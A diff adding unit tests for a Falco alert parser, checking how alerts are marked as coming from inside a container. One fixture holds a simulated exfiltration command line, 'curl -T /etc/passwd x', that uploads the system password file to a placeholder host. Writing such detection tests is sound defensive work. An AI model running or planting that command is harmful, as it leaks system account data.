@@ -197,3 +197,21 @@ describe("falco parser", () => {
     expect(falco.parse(message, ctx)).toBeNull();
   });
 });
+
+describe("falco in-container evidence", () => {
+  const alert = (fields: Record<string, unknown>) =>
+    JSON.stringify({ rule: "r", priority: "Notice", time: "2026-11-28T10:00:00Z", output_fields: fields });
+
+  it.each([
+    ["an image", { "container.image.repository": "nginx" }, true],
+    ["a container name", { "container.name": "web" }, true],
+    ["container.id host", { "container.id": "host", "container.name": "host" }, false],
+    ["no container field at all", {}, "unknown"],
+  ] as const)("%s", (_name, extra, inContainer) => {
+    const events = falco.parse(
+      alert({ "proc.name": "curl", "proc.cmdline": "curl -T /etc/passwd x", ...extra }),
+      ctx,
+    );
+    expect(events?.[0]?.inContainer).toBe(inContainer);
+  });
+});
